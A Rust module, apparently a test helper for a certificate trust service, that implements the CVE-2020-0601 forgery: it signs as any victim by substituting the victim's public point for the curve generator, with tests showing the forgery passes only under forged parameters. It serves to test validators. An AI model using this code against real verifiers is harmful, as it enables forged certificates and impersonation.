//! Signs as if it held someone else's private key, for those who trust a key's own parameters.
//!
//! CVE-2020-0601: take the victim's public point Q, and claim that the generator is Q as well. Then
//! the private key is 1. With the one-time number 1 too, the signature needs no curve arithmetic:
//! r is the x coordinate of Q, and s = hash + r. It verifies under the forged parameters, and fails
//! under the true ones. A validator must compare the generator with the curve's own.

use ring::signature::{ECDSA_P256_SHA256_ASN1, UnparsedPublicKey};
use trust_service::demo::curve::{Curve, ExplicitParameters};
use trust_service::demo::error::IssueError;
use trust_service::demo::key::{KeyPair, Signer, spki};
use trust_service::demo::writer;

/// A signer that knows no more of its victim than the public point.
#[derive(Clone, Debug)]
pub(crate) struct ForgedKey {
    curve: Curve,
    point: Vec<u8>,
}

impl ForgedKey {
    /// Poses as the owner of `victim`'s key; only the public half is looked at.
    #[must_use]
    pub(crate) fn of(victim: &dyn Signer) -> Self {
        Self { curve: victim.curve(), point: victim.point().to_vec() }
    }

    /// The victim's curve, but with the victim's public point as generator.
    #[must_use]
    pub(crate) fn parameters(&self) -> ExplicitParameters {
        ExplicitParameters { generator: self.point.clone(), ..self.curve.parameters() }
    }

    /// The victim's point under the forged parameters, as a rogue certificate would carry it.
    ///
    /// # Errors
    ///
    /// None in practice: the identifiers are constants.
    pub(crate) fn spki(&self) -> Result<Vec<u8>, IssueError> {
        spki(&self.point, &self.parameters().to_der()?)
    }
}

impl Signer for ForgedKey {
    fn curve(&self) -> Curve {
        self.curve
    }

    fn point(&self) -> &[u8] {
        &self.point
    }

    fn sign(&self, message: &[u8]) -> Result<Vec<u8>, IssueError> {
        let [_, coordinates @ ..] = self.point.as_slice() else {
            return Err(IssueError::SigningFailed);
        };
        let (x, _) = coordinates.split_at(coordinates.len() / 2);
        let order = self.curve.parameters().order;
        let r = reduce(x, &order);
        let s = reduce(&ripple(&widen(&self.curve.hash(message)), &r, u8::overflowing_add), &order);
        Ok(writer::sequence([writer::unsigned_integer(&r), writer::unsigned_integer(&s)]))
    }
}

/// `number` modulo `order`, one byte longer than `order` so that a sum of two fits.
fn reduce(number: &[u8], order: &[u8]) -> Vec<u8> {
    let order = widen(order);
    let mut rest = if number.len() < order.len() { widen(number) } else { number.to_vec() };
    while rest >= order {
        rest = ripple(&rest, &order, u8::overflowing_sub);
    }
    rest
}

fn widen(number: &[u8]) -> Vec<u8> {
    [&[0], number].concat()
}

/// Adds or subtracts two big-endian numbers of the same length, byte by byte from the right.
fn ripple(left: &[u8], right: &[u8], step: fn(u8, u8) -> (u8, bool)) -> Vec<u8> {
    let mut carry = false;
    let mut digits: Vec<u8> = left
        .iter()
        .zip(right)
        .rev()
        .map(|(left, right)| {
            let (digit, first) = step(*left, *right);
            let (digit, second) = step(digit, u8::from(carry));
            carry = first || second;
            digit
        })
        .collect();
    digits.reverse();
    digits
}

#[test]
fn adds_and_reduces_with_carries() {
    assert_eq!(ripple(&[0, 0xFF, 0xFF], &[0, 0, 1], u8::overflowing_add), [1, 0, 0]);
    assert_eq!(ripple(&[1, 0, 0], &[0, 0, 1], u8::overflowing_sub), [0, 0xFF, 0xFF]);
    assert_eq!(ripple(&[0, 0xFF, 0xFF], &[0, 0xFF, 0xFF], u8::overflowing_add), [1, 0xFF, 0xFE]);
    assert_eq!(reduce(&[200], &[7]), [0, 4]);
    assert_eq!(reduce(&[1, 0], &[7]), [0, 4]);
    assert_eq!(reduce(&[6], &[7]), [0, 6]);
    assert_eq!(reduce(&[7], &[7]), [0, 0]);
}

#[test]
fn a_forged_signature_fails_under_the_true_generator() {
    let victim = KeyPair::generate(Curve::P256).unwrap();
    let forged = ForgedKey::of(&victim);
    let signature = forged.sign(b"message").unwrap();
    let public = UnparsedPublicKey::new(&ECDSA_P256_SHA256_ASN1, victim.point());
    assert!(public.verify(b"message", &signature).is_err());
}

#[test]
fn only_the_generator_differs_so_that_nothing_else_gives_the_forgery_away() {
    let victim = KeyPair::generate(Curve::P384).unwrap();
    let forged = ForgedKey::of(&victim);
    assert_eq!(forged.key_identifier(), victim.key_identifier());
    let true_generator = Curve::P384.parameters().generator;
    let healed = ExplicitParameters { generator: true_generator, ..forged.parameters() };
    assert_eq!(healed, Curve::P384.parameters());
}

#[test]
fn refuses_an_empty_point() {
    let empty = ForgedKey { curve: Curve::P256, point: Vec::new() };
    assert_eq!(empty.sign(b""), Err(IssueError::SigningFailed));
}
